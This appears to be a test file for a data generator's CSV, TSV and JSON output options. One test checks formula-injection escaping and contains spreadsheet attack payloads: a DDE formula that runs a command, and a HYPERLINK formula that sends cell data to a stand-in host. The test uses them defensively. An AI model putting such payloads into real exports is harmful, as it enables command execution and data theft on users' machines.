import { parse } from 'csv-parse/sync';
import { ChunkEncoder, ChunkWorkerPool, compileBlueprint, outputIssues, streamTable, tableFrame, type OutputOptions } from '../../src/engine';
import { collect, doc, shop, table } from './helpers';

const plan = compileBlueprint(shop(40));
const users = (format: 'csv' | 'tsv' | 'json' | 'ndjson', output?: OutputOptions, count = 40) => collect(streamTable(plan, 'users', format, { count, output }));

/** Text that needs every escape: the delimiters, quotes, line breaks, backslashes, a value that reads as a NULL marker. */
const awkward = doc([
  table('t', 6, [
    { name: 'id', generator: 'sequence' },
    { name: 'v', generator: 'list', options: { values: ['a;b', 'say "hi"', 'two\nlines', 'back\\slash', 'NULL', '', 'tab\there', 'pipe|d'] } },
    { name: 'n', generator: 'number.int', options: { min: 1, max: 9 }, nullRate: 0.5 },
  ]),
]);

describe('output options', () => {
  it('leave every format byte-identical when unset or set to the defaults', async () => {
    for (const format of ['csv', 'tsv', 'json', 'ndjson'] as const) {
      const plain = await users(format);
      expect(await users(format, {})).toBe(plain);
      const defaults: OutputOptions = format === 'csv' ? { delimiter: ',', header: true, lineEnding: 'crlf', nullMarker: '' } : format === 'tsv' ? { delimiter: '\t', lineEnding: 'lf', nullMarker: '\\N' } : { pretty: false };
      expect(await users(format, defaults)).toBe(plain);
    }
  });

  it('CSV: delimiter, NULL marker, line ending and header row, read back by a CSV parser as the same values', async () => {
    const awkwardPlan = compileBlueprint(awkward);
    const standard = parse(await collect(streamTable(awkwardPlan, 't', 'csv')), { columns: true }) as Record<string, string>[];
    const custom = await collect(streamTable(awkwardPlan, 't', 'csv', { output: { delimiter: ';', nullMarker: 'NULL', lineEnding: 'lf' } }));
    expect(custom.split('\n')[0]).toBe('id;v;n');
    expect(custom).not.toContain('\r\n');
    // An unquoted NULL is NULL; the text "NULL" is quoted, so a reader tells them apart.
    const read = parse(custom, { columns: true, delimiter: ';', cast: (value, ctx) => (value === 'NULL' && !ctx.quoting ? null : value) });
    expect(read).toEqual(standard.map((r) => ({ ...r, n: r.n === '' ? null : r.n })));
    const headless = await collect(streamTable(awkwardPlan, 't', 'csv', { output: { header: false } }));
    expect(headless).toBe((await collect(streamTable(awkwardPlan, 't', 'csv'))).replace(/^id,v,n\r\n/, ''));
  });

  it('TSV: a delimiter of the user\'s is escaped in values as PostgreSQL\'s text format reads it', async () => {
    const awkwardPlan = compileBlueprint(awkward);
    const text = await collect(streamTable(awkwardPlan, 't', 'tsv', { output: { delimiter: '|', nullMarker: '', lineEnding: 'crlf', header: false } }));
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(6);
    const unescape = (cell: string) => cell.replace(/\\(.)/g, (_, c) => ({ t: '\t', n: '\n', r: '\r' })[c as 't' | 'n' | 'r'] ?? c);
    const values = lines.map((l) => l.split(/(?<!\\)\|/).map(unescape));
    const expected = (await collect(streamTable(awkwardPlan, 't', 'ndjson'))).trim().split('\n').map((l) => JSON.parse(l));
    expect(values).toEqual(expected.map((r) => [String(r.id), r.v, r.n === null ? '' : String(r.n)]));
  });

  it('JSON pretty is JSON.stringify(rows, null, 2); NDJSON stays one row per line', async () => {
    const compact = await users('json');
    expect(await users('json', { pretty: true })).toBe(`${JSON.stringify(JSON.parse(compact), null, 2)}\n`);
    expect(await users('json', { pretty: true }, 0)).toBe('[]\n');
    expect(await users('ndjson', { pretty: true })).toBe(await users('ndjson'));
  });

  it('give the same bytes split into chunks between a frame, as a run assembles them', async () => {
    const output: OutputOptions = { delimiter: '|', nullMarker: 'NULL', lineEnding: 'lf', header: false };
    for (const format of ['csv', 'json'] as const) {
      const options = format === 'json' ? { pretty: true } : output;
      const { header, footer } = tableFrame(plan, 'users', format, 'postgres', options);
      const encoder = new ChunkEncoder(plan);
      const body = [0, 13, 27, 40].slice(1).map((to, i, ends) => encoder.encode('users', format, 'postgres', 0, i === 0 ? 0 : ends[i - 1], to, options).toString()).join('');
      expect(header + body + footer).toBe(await users(format, options));
    }
  });

  it('give the same bytes from worker threads as from this thread', async () => {
    const helpers = new ChunkWorkerPool(1);
    try {
      for (const [format, output] of [['csv', { delimiter: ';', nullMarker: 'NULL', lineEnding: 'lf' }], ['tsv', { delimiter: '|', header: false }], ['json', { pretty: true }]] as const) {
        const single = await collect(streamTable(plan, 'users', format, { output, chunkRows: 7 }));
        expect(await collect(streamTable(plan, 'users', format, { output, chunkRows: 7, workers: 2 }))).toBe(single);
        expect(await collect(streamTable(plan, 'users', format, { output, chunkRows: 7, helpers }))).toBe(single);
      }
    } finally {
      await helpers.close();
    }
  });

  it('escapeFormulas: a text cell that would start a formula gets a leading apostrophe, in CSV and TSV; numbers and other text stay (issue 24, row 5)', async () => {
    // What the attack measured: 24 of 84 cells began with one of these and were written as they were.
    const formulas = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"click")', '+1 555 0100', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', 'plain', "it's fine", '1+1='];
    const hostile = compileBlueprint(doc([
      table('t', formulas.length, [
        { name: 'id', generator: 'sequence' },
        { name: 'v', generator: 'list', options: { values: formulas }, unique: true },
        { name: 'n', generator: 'number.int', options: { min: -9, max: -1 } },
      ]),
    ]));
    const expected = (await collect(streamTable(hostile, 't', 'ndjson'))).trim().split('\n').map((l) => JSON.parse(l));
    const escaped = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

    const csv = parse(await collect(streamTable(hostile, 't', 'csv', { output: { escapeFormulas: true } })), { columns: true }) as Record<string, string>[];
    expect(csv).toEqual(expected.map((r) => ({ id: String(r.id), v: escaped(r.v), n: String(r.n) })));
    expect(csv.filter((r) => r.v.startsWith("'"))).toHaveLength(7);

    const tsv = (await collect(streamTable(hostile, 't', 'tsv', { output: { escapeFormulas: true, header: false } }))).trim().split('\n');
    const unescape = (cell: string) => cell.replace(/\\(.)/g, (_, c) => ({ t: '\t', n: '\n', r: '\r' })[c as 't' | 'n' | 'r'] ?? c);
    expect(tsv.map((line) => line.split('\t').map(unescape))).toEqual(expected.map((r) => [String(r.id), escaped(r.v), String(r.n)]));

    // Off by default, and ignored by the formats a database or a program loads.
    const plain = await collect(streamTable(hostile, 't', 'csv'));
    expect(plain).toContain(",=cmd|' /C calc'!A0,");
    expect(plain).not.toContain("'=");
    expect(await collect(streamTable(hostile, 't', 'ndjson', { output: { escapeFormulas: true } }))).toBe(await collect(streamTable(hostile, 't', 'ndjson')));
    // The same bytes from worker threads and from a run's chunks.
    const single = await collect(streamTable(hostile, 't', 'csv', { output: { escapeFormulas: true }, chunkRows: 3 }));
    expect(await collect(streamTable(hostile, 't', 'csv', { output: { escapeFormulas: true }, chunkRows: 3, workers: 2 }))).toBe(single);
  });

  it('names each invalid option by its path', () => {
    const issues = outputIssues({ delimiter: ';;', header: 'yes', lineEnding: 'cr', nullMarker: 'x'.repeat(33), pretty: 1, escapeFormulas: 'on', colour: 'red' }, ['csv'], 'output');
    expect(issues.map((i) => i.path).sort()).toEqual(['output.colour', 'output.delimiter', 'output.escapeFormulas', 'output.header', 'output.lineEnding', 'output.nullMarker', 'output.pretty']);
    expect(outputIssues({ delimiter: '"' }, ['csv']).map((i) => i.path)).toEqual(['delimiter']);
    expect(outputIssues({ delimiter: '\n' }, ['csv'])).toHaveLength(1);
    expect(outputIssues({ nullMarker: 'a,b' }, ['csv'])[0]).toMatchObject({ path: 'nullMarker', message: expect.stringMatching(/delimiter/) });
    expect(outputIssues({ nullMarker: 'a,b' }, ['tsv'])).toEqual([]);
    expect(() => streamTable(plan, 'users', 'csv', { output: { delimiter: 'ab' } })).toThrow(expect.objectContaining({ code: 'BAD_USER_INPUT', path: 'delimiter' }));
  });
});
